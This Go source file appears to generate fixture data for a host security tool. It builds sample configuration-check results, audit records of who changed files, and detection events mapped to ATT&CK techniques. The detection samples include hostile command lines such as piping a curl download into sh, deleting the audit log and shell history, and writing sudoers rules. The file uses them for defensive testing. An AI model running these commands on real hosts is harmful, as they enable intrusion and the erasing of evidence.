package fill

import (
	"fmt"
	"strings"
	"time"

	"seawall/pkg/finding"
)

func packages() []string {
	return strings.Fields("openssl linux-image libc6 curl openssh-server sudo systemd libxml2 nginx postgresql-15 " +
		"python3.11 perl-base bind9-libs vim gnupg libssh2-1 krb5-user git less tar zlib1g libexpat1 glib2.0 sqlite3")
}

// system is a release that hosts run.
type system struct {
	name     string // PRETTY_NAME of os-release(5)
	id       string
	version  string
	likeness string // its family, as checks know families
}

func systems() []system {
	return []system{{"Debian GNU/Linux 13 (trixie)", "debian", "13", "debian"}, {"Debian GNU/Linux 12 (bookworm)", "debian", "12", "debian"},
		{"Ubuntu 24.04.3 LTS", "ubuntu", "24.04", "debian"}, {"Rocky Linux 9.6 (Blue Onyx)", "rocky", "9.6", "rhel"}}
}

// result is what a check found.
func result(number int, check finding.CheckInfo, resource string, status finding.Status, at time.Time) finding.Result {
	actual := "yes"
	if status == finding.StatusFail {
		actual = "no, as of " + at.Format(time.DateTime)
	}
	return finding.Result{
		Check: check.ID, Resource: resource, Status: status, Severity: check.Severity, Actual: actual,
		Expected: "yes, in every file that the program reads, and nothing that undoes it later",
		Evidence: []finding.Evidence{
			{File: fmt.Sprintf("/etc/%s/%s.conf", check.Family, check.ID), Line: 12 + number%80, Text: "SettingThatMatters " + actual},
			{Text: "program --show-effective-configuration: settingthatmatters " + actual},
		},
		Time: at,
	}
}

// cause is who made a change.
func cause(who int, path string, at time.Time) *finding.Cause {
	login := []string{"alice", "bob", "carol", "deploy", "dave"}[who%5]
	return &finding.Cause{
		Serial: uint64(4711 + who), Time: at, AUID: uint32(1000 + who%5), LoginUser: login, User: "root", Session: uint32(who % 900), PID: uint32(1000 + who%30000), TTY: "pts0",
		Exe: "/usr/bin/vim.basic", Command: "vim " + path, Path: path, Operation: "write",
	}
}

// seen is what a detection tells, with a rule of the agent's own.
type seen struct {
	rule, title, technique string
	severity               finding.Severity
	exe, command, target   string
}

func detections() []seen {
	return []seen{
		{"fe5226ca-f122-51cd-9e4c-17608f709ee6", "Web server started from an interpreter", "T1048", finding.SeverityLow, "/usr/bin/python3.13", "python3 -m http.server 8000", ""},
		{"339b3c42-4a6e-537b-b979-68e8370bd8b4", "User namespace made by command", "T1068", finding.SeverityLow, "/usr/bin/unshare", "unshare -Ur", ""},
		{"822e85b7-1592-5a9f-a89e-e2720dd060dd", "Account added", "T1136.001", finding.SeverityMedium, "/usr/sbin/useradd", "useradd -m -s /bin/bash erin", "/etc/passwd"},
		{"d5f83171-6e90-52fd-9785-2cf39bf3ca80", "SSH server configuration changed", "T1098.004", finding.SeverityMedium, "/usr/bin/vim.basic", "vim /etc/ssh/sshd_config", "/etc/ssh/sshd_config"},
		{"94dd6762-769a-5063-a014-a8d3e7a47537", "Shell history removed", "T1070.003", finding.SeverityMedium, "/usr/bin/rm", "rm .bash_history", "/home/alice/.bash_history"},
		{"e908a314-2d57-5e73-bf3b-74a10bc43b90", "Sudo rules changed", "T1548.003", finding.SeverityHigh, "/usr/bin/tee", "tee /etc/sudoers.d/deploy", "/etc/sudoers.d/deploy"},
		{"5fe2180e-6e6e-5b5b-b756-8a68e4a4858e", "Downloaded and run in one line", "T1105", finding.SeverityHigh, "/usr/bin/dash", "sh -c curl -s https://example.net/install | sh", ""},
		{"9a9987fa-752a-58a9-a8ef-5f3afc6b1840", "Audit log removed", "T1070.002", finding.SeverityCritical, "/usr/bin/rm", "rm /var/log/audit/audit.log.1", "/var/log/audit/audit.log.1"},
	}
}
